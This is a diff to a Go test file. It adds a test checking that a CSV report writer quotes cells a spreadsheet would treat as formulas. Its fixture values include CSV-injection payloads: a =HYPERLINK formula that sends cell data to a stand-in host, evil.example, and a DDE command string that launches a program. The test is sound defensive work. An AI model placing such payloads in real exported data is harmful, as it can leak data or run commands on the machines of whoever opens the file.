@@ -1,6 +1,7 @@
 package report
 
 import (
+	"encoding/csv"
 	"bytes"
 	"context"
 	"encoding/json"
@@ -291,6 +292,46 @@ func TestCSV(t *testing.T) {
 		t.Errorf("row 1 =\n%s\nwant\n%s", lines[2], want)
 	}
 }
+
+// TestCSVFormulas: text cells a spreadsheet would run as a formula start
+// with a quote; numbers, negative or not, stay numbers.
+func TestCSVFormulas(t *testing.T) {
+	s, err := transcript.ReadFile(fixture("claude.jsonl"), transcript.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.ID = `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	s.Path = "@SUM(A1)/x.jsonl"
+	s.Calls[0].Model = "+cmd|' /C calc'!A0"
+	s.Calls[1].Model = "-2+3"
+	s.Calls[2].Model = "\tab"
+	rep := buildWith(t, s, pricing.Default(), "none")
+	rep.Calls[2].CostUSD = ptr(-0.5) // a negative number is no formula
+	var buf bytes.Buffer
+	w, _ := NewWriter("csv", &buf, "")
+	w.Begin()
+	if err := WriteSession(w, rep); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got [][]string
+	for _, r := range rows[1:] {
+		got = append(got, []string{r[0], r[1], r[5], r[11]})
+	}
+	want := [][]string{
+		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", "'+cmd|' /C calc'!A0", ""}, // no price: an empty cell
+		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", "'-2+3", ""},
+		{`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'@SUM(A1)/x.jsonl", `\tab`, "-0.500000000"},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("session id, path, model, cost cells (-want +got):\n%s", diff)
+	}
+}
+
+func ptr[T any](v T) *T { return &v }
 
 func TestTextGolden(t *testing.T) {
 	var buf bytes.Buffer
